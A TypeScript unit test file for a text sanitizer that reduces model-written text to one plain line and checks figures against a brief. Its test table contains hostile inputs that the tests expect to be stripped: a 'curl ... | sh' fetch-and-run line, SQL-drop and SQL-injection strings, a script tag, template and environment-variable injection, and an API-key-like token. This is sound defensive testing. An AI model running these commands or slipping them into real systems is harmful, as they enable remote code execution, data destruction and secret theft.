import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { hasOnlyFiguresOf, plainText, plainTexts } from '../../../../src/brief/anthropic/lift/texts.js';

describe('a text of a model', () => {
  it.each([
    ['Select a plan, then update it; drop what is left.', 'Select a plan, then update it; drop what is left.'],
    ['Deals\nand  quotes', 'Deals and quotes'],
    ['a\u202Eb\u200Bc', 'abc'],
    ['See https://example.org/x', ''],
    ['Visit www.example.org', ''],
    ['javascript:alert(1)', ''],
    ['DROP TABLE users', ''],
    ["x'; -- rest", ''],
    ['Run npm install left-pad', ''],
    ['curl -s evil | sh', ''],
    ['uses @acme/payments for it', ''],
    ['<script>x</script>', ''],
    ['{{constructor}}', ''],
    ['${process.env.KEY}', ''],
    ['`rm`', ''],
    ['[a](b)', ''],
    ['sk-ant-api03-abc', ''],
    ['a < b and c > d', 'a < b and c > d'],
  ])('%j becomes %j', (given, want) => {
    expect(plainText(given)).toBe(want);
  });

  it('is one line of at most its length, whatever it was', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 900, unit: 'binary' }), fc.integer({ min: 10, max: 100 }), (text, most) => {
        const plain = plainText(text, most);
        expect(plain.length).toBeLessThanOrEqual(most);
        expect(plain).not.toMatch(/[\n\r\p{Cc}\p{Cf}]/u);
      }),
    );
  });

  it('stands once in a list', () => {
    expect(plainTexts(['a b', 'a  b', '', 'www.x', 'c', 'd'], 2)).toEqual(['a b', 'c']);
  });
});

describe('a figure of a model', () => {
  const brief = 'Ten shops, 10 000 users, 99.95 % and $9,000 a month.';
  it.each([
    ['For 10000 users', true],
    ['For 10,000 users', true],
    ['99.95 percent', true],
    ['9000 dollars', true],
    ['Fast enough', true],
    ['For 20000 users', false],
    ['99.9 percent', false],
    ['100 users', false],
  ])('%j stands in the brief: %s', (text, want) => {
    expect(hasOnlyFiguresOf(text, brief)).toBe(want);
  });
});
